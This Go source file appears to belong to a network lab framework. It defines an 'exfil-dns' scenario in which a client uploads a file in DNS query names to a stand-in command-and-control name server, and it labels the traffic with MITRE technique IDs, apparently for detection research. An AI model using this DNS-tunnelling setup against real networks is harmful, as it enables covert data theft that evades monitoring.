// Package exfildns is stolen data that leave in DNS queries.
package exfildns

import (
	"context"
	"net/netip"
	"strings"
	"time"

	"tyto/lab"
	"tyto/lab/c2"
	"tyto/lab/label"
)

// Scenario sends a file in the names of DNS queries.
var Scenario = lab.Scenario{
	Name:       "exfil-dns",
	Doc:        "A file leaves in the names of DNS queries, fast or low and slow, to a name server that puts it together. Teaches uploads in names, directly and through a resolver.",
	Labels:     []label.Label{label.Upload, label.Exfiltration, label.DNSTunnel},
	Techniques: []string{"T1048.003", "T1071.004", "T1030", "T1132.001"},
	Twin:       "dns-lookups",
	Hosts:      []string{"client", "resolver", "server"},
	Variants: []lab.Variant{
		{Name: "go-direct"}, {Name: "go-unbound", Needs: []string{"unbound"}}, {Name: "dig-direct", Needs: []string{"dig"}}, {Name: "dig-unbound", Needs: []string{"dig", "unbound"}},
	},
	Params: []lab.Param{
		{Name: "size", Doc: "of the file in kB, about; less where it is slow", Values: []string{"2", "6", "15"}},
		{Name: "record", Doc: "type of the answers", Values: []string{"TXT", "A", "A"}},
		{Name: "label", Doc: "bytes in a query's name", Values: []string{"30", "60", "120"}},
		{Name: "socket", Doc: "of the queries: a new one for each, or for some; always for each with dig", Values: []string{"query", "message"}},
		{Name: "throttle", Doc: "between queries, about; long ones are low and slow", Values: []string{"15ms", "50ms", "200ms", "1s"}},
		{Name: "domain", Doc: "of the name server", Values: []string{"cdn-sync.example", "t.weather.example.net", "ns1.telemetry.example"}},
	},
	Programs: c2.Programs(),
	Limit:    9 * time.Minute,
	Run:      run,
}

func run(ctx context.Context, r *lab.Run) error {
	client, resolver, server := r.Host("client"), r.Host("resolver"), r.Host("server")
	program, way, _ := strings.Cut(r.Variant(), "-")
	if program == "dig" {
		r.SetParam("socket", "query")
		r.Installed(client, "dig")
	}
	throttle, err := time.ParseDuration(r.Param("throttle"))
	if err != nil {
		return err
	}
	if throttle >= 200*time.Millisecond {
		r.SetParam("size", "2")
	}
	p := c2.Plan{
		Transport: "dns", Client: program, Agent: "agent", Name: r.Param("domain"), Record: r.Param("record"), Label: r.ParamInt("label"),
		FreshPort: r.Param("socket") == "query", Throttle: throttle, Local: client.Addr(), Seed: r.Rand().Uint64(), Push: true, PartPause: throttle,
		Server: netip.AddrPortFrom(server.Addr(), 53), Tasks: []c2.Task{{ID: 1, Kind: "upload", Arg: "documents.zip"}},
	}
	if way == "unbound" {
		u, err := c2.Resolver(ctx, r, resolver, server, p.Name)
		if err != nil {
			return err
		}
		r.Label(lab.Of(u), label.Exfiltration, label.DNSTunnel)
		defer r.Segment(lab.Of(u), label.StateUpload, "queries of "+client.Name())()
		p.Server = netip.AddrPortFrom(resolver.Addr(), 53)
	}
	s, err := c2.Prepare(ctx, r, client, server, p)
	if err != nil {
		return err
	}
	if err := s.Play(ctx, r, client, server); err != nil {
		return err
	}
	r.Label(lab.Of(s.Agent), label.DNSTunnel)
	return nil
}
